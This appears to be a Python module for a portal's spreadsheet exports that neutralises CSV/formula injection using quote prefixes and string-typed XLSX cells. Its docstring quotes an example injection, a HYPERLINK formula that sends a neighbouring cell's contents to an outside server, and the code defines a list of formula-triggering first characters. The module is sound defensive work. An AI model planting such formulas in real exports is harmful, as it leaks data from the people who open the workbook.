"""The one writer of every CSV and XLSX cell the portal produces (CSV/formula injection).

A spreadsheet reads a cell whose text starts with ``=``, ``+``, ``-``, ``@``, TAB or CR (and,
in some programs, their full-width forms) as a formula: a facility named
``=HYPERLINK("http://…?"&D4,"…")`` would become a live link that leaks the next cell to a
stranger's server when an officer opens the workbook. Following OWASP's advice
(https://owasp.org/www-community/attacks/CSV_Injection):

- in CSV, such text is prefixed with ``'`` so that it is shown as text;
- in XLSX, every text is stored as a string cell (never a formula) with the "quote prefix"
  style, so that editing the cell does not turn it into a formula either; only the portal's
  own totals are written as formulas (``formula=True``).

The text itself is kept whole (apart from the prefix); characters XML cannot hold are dropped
from XLSX cells, since openpyxl refuses them.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import IO, Any

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.worksheet.worksheet import Worksheet

# First characters that make a spreadsheet evaluate a cell.
FORMULA_STARTS = frozenset("=+-@\t\r\n＝＋－＠")
_PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?\Z")


def is_formula_like(text: str) -> bool:
    """True when ``text`` would be read as a formula (a plain negative number is not)."""
    return bool(text) and text[0] in FORMULA_STARTS and not _PLAIN_NUMBER.match(text)


def safe_value(value: Any) -> Any:
    """A CSV cell value: formula-looking text gets a leading ``'``; other values unchanged."""
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


class SafeCsvWriter:
    """``csv.writer`` whose every cell goes through :func:`safe_value`."""

    def __init__(self, stream: IO[str] | Any, **kwargs: Any) -> None:
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_value(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: IO[str] | Any, **kwargs: Any) -> SafeCsvWriter:
    """The CSV writer every CSV export uses (same arguments as ``csv.writer``)."""
    return SafeCsvWriter(stream, **kwargs)


def write_cell(ws: Worksheet, *, row: int, column: int, value: Any, formula: bool = False) -> Cell:
    """Write one XLSX cell. Text is stored as text; ``formula=True`` only for the portal's
    own formulas (totals), never for anything a user typed."""
    cell = ws.cell(row=row, column=column)
    if isinstance(value, str) and not formula:
        text = ILLEGAL_CHARACTERS_RE.sub("", value)
        cell.value = text
        cell.data_type = "s"  # openpyxl would otherwise store "=…" as a formula
        if text and text[0] in FORMULA_STARTS:
            cell.quotePrefix = True
    else:
        cell.value = value
    return cell
